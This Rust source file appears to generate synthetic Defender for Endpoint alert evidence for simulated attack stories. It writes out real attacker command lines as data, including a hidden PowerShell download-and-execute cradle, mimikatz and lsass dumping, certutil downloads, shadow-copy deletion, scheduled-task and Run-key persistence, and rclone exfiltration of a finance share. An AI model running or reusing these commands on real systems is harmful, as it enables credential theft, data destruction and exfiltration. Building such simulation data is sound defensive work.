//! The evidence each Defender for Endpoint attack story leaves on a device.

use super::powershell::encoded_command;
use super::rules::Play;
use crate::catalog::devices::{Device, WINDOWS_SERVERS, WORKSTATION_POOL};
use crate::catalog::files::{self, Sample, SAMPLES};
use crate::catalog::network::{C2_DOMAINS, HOSTILE_IPS, PAYLOAD_URLS};
use crate::catalog::people::{User, USERS};
use crate::detection::Detection;
use crate::evidence::host::{self, OnHost, Process, Sensor};
use crate::evidence::identity::{self, Account, SYSTEM};
use crate::evidence::network::{self, Address};
use crate::evidence::Part;
use crate::scene::Scene;
use model::enums::{
    AlertDetermination as D, AlertSeverity as Sev, EvidenceRole as R, EvidenceVerdict as V,
};

const MAIN_DEVICE: Part = Part::new(&[R::Compromised], &["Main device"], V::Suspicious);
const SIGNED_IN: Part = Part::new(&[R::Compromised], &["Logged on user"], V::Suspicious);
const BAD_PROCESS: Part = Part::new(&[R::Suspicious], &[], V::Malicious);
const TOOL_PROCESS: Part = Part::new(&[], &["Child process"], V::Suspicious);
const BAD_FILE: Part = Part::new(&[R::Created], &["Detected file"], V::Malicious);
const C2: Part = Part::new(&[R::CommandAndControl, R::Destination], &[], V::Malicious);
const DOWNLOAD: Part = Part::new(&[R::Source], &["Download source"], V::Malicious);
const PEER: Part = Part::new(&[R::Source], &["Remote source"], V::Suspicious);

/// The device an alert is about and the account active on it.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Target {
    device: &'static Device,
    user: &'static User,
}

/// Picks the device (server-side stories land on servers) and its user.
pub(crate) fn target(scene: &mut Scene<'_>, play: Play) -> Target {
    let dice = &mut scene.dice;
    let on_server = match play {
        Play::LateralMovement | Play::Experts => true,
        Play::CredentialTheft => dice.chance(0.4),
        Play::Ransomware => dice.chance(0.3),
        _ => false,
    };
    let device = if on_server {
        dice.pick_skewed(WINDOWS_SERVERS)
    } else {
        let any_os = play == Play::Investigation;
        let mut device = &WORKSTATION_POOL[0];
        for _ in 0..4 {
            let d = dice.pick_skewed(WORKSTATION_POOL);
            if any_os || d.os.is_windows() {
                device = d;
                break;
            }
        }
        device
    };
    let user = match device.owner() {
        Some(u) => u,
        None => {
            let admins: Vec<&'static User> = USERS.iter().filter(|u| u.admin).collect();
            *dice.pick(&admins)
        }
    };
    Target { device, user }
}

/// Adds the device, its user and the story's processes, files and network entities.
pub(crate) fn evidence(scene: &mut Scene<'_>, det: &mut Detection, play: Play, t: Target) {
    let at = OnHost {
        device: t.device,
        alias: t.user.alias,
        detection: Some("detected"),
        sensor: Sensor::Defender,
    };
    let device = host::device(scene, t.device, Sensor::Defender, det.severity, MAIN_DEVICE);
    det.evidence.push(device);
    let user = identity::user(scene, Account::Member(t.user), SIGNED_IN);
    det.evidence.push(user);
    let me = Account::Member(t.user);
    match play {
        Play::MacroDropper => macro_dropper(scene, det, at, me),
        Play::Antivirus => antivirus(scene, det, at, me),
        Play::CredentialTheft => credential_theft(scene, det, at, me),
        Play::LateralMovement => lateral_movement(scene, det, at, me),
        Play::Persistence => persistence(scene, det, at, me),
        Play::IndicatorMatch => indicator_match(scene, det, at, me),
        Play::Ransomware => ransomware(scene, det, at, me),
        Play::Discovery => discovery(scene, det, at, me),
        Play::Download => download(scene, det, at, me),
        Play::Investigation => {}
        Play::Experts => experts(scene, det, at, me),
    }
}

fn proc(
    image: &'static files::FileInfo,
    cmd: String,
    parent: &'static files::FileInfo,
    account: Account,
) -> Process {
    Process {
        image,
        command_line: cmd,
        parent,
        account,
    }
}

fn macro_dropper(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let url = *scene.dice.pick_skewed(PAYLOAD_URLS);
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
    let cmd = format!(
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}",
        encoded_command(&script)
    );
    let p = host::process(
        scene,
        proc(&files::POWERSHELL, cmd, &files::WINWORD, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let f = host::file(scene, &SAMPLES[3].file, at, BAD_FILE);
    det.evidence.push(f);
    let u = network::url(scene, url, DOWNLOAD);
    det.evidence.push(u);
}

fn antivirus(scene: &mut Scene<'_>, det: &mut Detection, mut at: OnHost, me: Account) {
    let sample: &Sample = scene.dice.pick_skewed(SAMPLES);
    let prevented = scene.dice.chance(0.55);
    at.detection = Some(if prevented { "prevented" } else { "detected" });
    det.title = if prevented {
        format!("'{}' {} was prevented", sample.family, sample.kind)
    } else {
        format!("An active '{}' {} was detected", sample.family, sample.kind)
    };
    det.threat_display_name = Some(sample.threat);
    det.threat_family_name = Some(sample.family);
    let unwanted = sample.kind == "unwanted software";
    if unwanted {
        det.category = "UnwantedSoftware";
        det.categories = vec!["UnwantedSoftware"];
        det.true_positive = D::UnwantedSoftware;
    }
    det.severity = match (sample.kind, prevented) {
        ("ransomware" | "backdoor", false) => Sev::High,
        ("ransomware" | "backdoor", true) | ("malware" | "hacktool", false) => Sev::Medium,
        ("malware" | "hacktool", true) | (_, false) => Sev::Low,
        _ => Sev::Informational,
    };
    let f = host::file(scene, &sample.file, at, BAD_FILE);
    det.evidence.push(f);
    let path = format!(
        "{}\\{}",
        sample.file.directory.replace("{user}", at.alias),
        sample.file.name
    );
    let (image, cmd) = match sample.file.name.rsplit('.').next() {
        Some("js") => (&files::WSCRIPT, format!("wscript.exe \"{path}\"")),
        Some("docm") => (
            &files::WINWORD,
            format!("\"WINWORD.EXE\" /n \"{path}\" /o \"\""),
        ),
        Some("exe") => (&sample.file, format!("\"{path}\"")),
        _ => return,
    };
    let p = host::process(
        scene,
        proc(image, cmd, &files::EXPLORER, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
}

fn credential_theft(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    if scene.dice.chance(0.5) {
        let cmd = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".to_string();
        let p = host::process(
            scene,
            proc(&SAMPLES[2].file, cmd, &files::CMD, me),
            at,
            BAD_PROCESS,
        );
        det.evidence.push(p);
        let f = host::file(scene, &SAMPLES[2].file, at, BAD_FILE);
        det.evidence.push(f);
    } else {
        let pid = scene.dice.between(150, 300) * 4;
        let cmd = format!("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} C:\\ProgramData\\lsass.dmp full");
        let p = host::process(
            scene,
            proc(&files::RUNDLL32, cmd, &files::POWERSHELL, me),
            at,
            BAD_PROCESS,
        );
        det.evidence.push(p);
    }
}

fn lateral_movement(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let svc = host::process(
        scene,
        proc(
            &files::PSEXESVC,
            "C:\\Windows\\PSEXESVC.exe".into(),
            &files::SERVICES,
            SYSTEM,
        ),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(svc);
    let cmd =
        "cmd.exe /c \"whoami /all & net localgroup administrators & ipconfig /all\"".to_string();
    let child = host::process(
        scene,
        proc(&files::CMD, cmd, &files::PSEXESVC, me),
        at,
        TOOL_PROCESS,
    );
    det.evidence.push(child);
    let source = scene.dice.pick_skewed(WORKSTATION_POOL);
    let ip = network::ip(scene, Address::Private(source.ip), PEER);
    det.evidence.push(ip);
}

fn persistence(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let script = format!(
        "C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\update.js",
        at.alias
    );
    let cmd = format!("schtasks.exe /Create /SC ONLOGON /TN \"\\Microsoft\\Windows\\OneDrive\\OneDriveUpdateTask\" /TR \"wscript.exe //B {script}\" /F");
    let p = host::process(
        scene,
        proc(&files::SCHTASKS, cmd, &files::POWERSHELL, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let data = format!("wscript.exe //B \"{script}\"");
    let key = (
        "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "OneDriveUpdate",
        data.as_str(),
    );
    let r = host::registry_value(scene, at, key, Part::new(&[R::Added], &[], V::Suspicious));
    det.evidence.push(r);
}

fn indicator_match(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let domain = *scene.dice.pick_skewed(C2_DOMAINS);
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    let cmd = format!(
        "rundll32.exe C:\\Users\\{}\\AppData\\Local\\Temp\\update.dll,DllRegisterServer",
        at.alias
    );
    let p = host::process(
        scene,
        proc(&files::RUNDLL32, cmd, &files::EXPLORER, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let u = network::url(scene, &format!("https://{domain}/"), C2);
    det.evidence.push(u);
    let i = network::ip(scene, Address::Public(ip), C2);
    det.evidence.push(i);
}

fn ransomware(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let sample = &SAMPLES[5];
    det.threat_display_name = Some(sample.threat);
    det.threat_family_name = Some(sample.family);
    let key = scene.dice.hex(32);
    let p = host::process(
        scene,
        proc(
            &sample.file,
            format!("lb3.exe -pass {key}"),
            &files::CMD,
            me,
        ),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let cmd = "cmd.exe /c vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no".to_string();
    let c = host::process(
        scene,
        proc(&files::CMD, cmd, &sample.file, me),
        at,
        TOOL_PROCESS,
    );
    det.evidence.push(c);
    let f = host::file(scene, &sample.file, at, BAD_FILE);
    det.evidence.push(f);
}

fn discovery(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let cmd = "cmd.exe /c \"nltest /domain_trusts /all_trusts & net group \"Domain Admins\" /domain & whoami /groups\"".to_string();
    let p = host::process(
        scene,
        proc(&files::CMD, cmd, &files::POWERSHELL, me),
        at,
        TOOL_PROCESS,
    );
    det.evidence.push(p);
    if scene.dice.chance(0.5) {
        let cmd = "powershell.exe -c \"Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv\"".to_string();
        let q = host::process(
            scene,
            proc(&files::POWERSHELL, cmd, &files::EXPLORER, me),
            at,
            TOOL_PROCESS,
        );
        det.evidence.push(q);
    }
}

fn download(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    let url = *scene.dice.pick_skewed(PAYLOAD_URLS);
    let sample = &SAMPLES[4];
    let cmd = format!(
        "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\Libraries\\{}",
        sample.file.name
    );
    let p = host::process(
        scene,
        proc(&files::CERTUTIL, cmd, &files::CMD, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let u = network::url(scene, url, DOWNLOAD);
    det.evidence.push(u);
    let f = host::file(scene, &sample.file, at, BAD_FILE);
    det.evidence.push(f);
}

fn experts(scene: &mut Scene<'_>, det: &mut Detection, at: OnHost, me: Account) {
    det.system_tags = vec!["Defender Experts"];
    let sample = &SAMPLES[6];
    let cmd = format!(
        "rclone.exe copy \\\\{}\\finance remote:bkp-{} --transfers 16 --ignore-existing -q",
        at.device.host,
        scene.dice.hex(6)
    );
    let p = host::process(
        scene,
        proc(&sample.file, cmd, &files::CMD, me),
        at,
        BAD_PROCESS,
    );
    det.evidence.push(p);
    let f = host::file(scene, &sample.file, at, BAD_FILE);
    det.evidence.push(f);
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    let i = network::ip(
        scene,
        Address::Public(ip),
        Part::new(
            &[R::Destination],
            &["Exfiltration destination"],
            V::Malicious,
        ),
    );
    det.evidence.push(i);
}
